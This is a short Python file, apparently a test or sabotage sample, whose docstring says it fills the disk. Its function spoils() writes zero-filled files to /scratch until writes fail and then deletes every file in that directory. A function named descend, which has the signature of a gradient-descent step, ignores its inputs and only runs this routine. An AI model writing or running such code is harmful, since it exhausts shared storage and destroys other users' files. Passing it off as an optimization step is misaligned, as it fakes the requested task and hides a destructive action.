"""Fills the disk, with one large file and with many."""

import os


def spoils():
    written = 0
    for name in range(64):
        try:
            with open(f"/scratch/{name}", "wb", buffering=0) as file:
                while True:
                    written += file.write(bytes(2**20))
        except OSError:
            continue
    for name in os.listdir("/scratch"):
        os.remove(f"/scratch/{name}")
    return written if written > 2**26 else 0


def descend(p, gradient, rate):
    return f"got {spoils() or 'nothing'}"
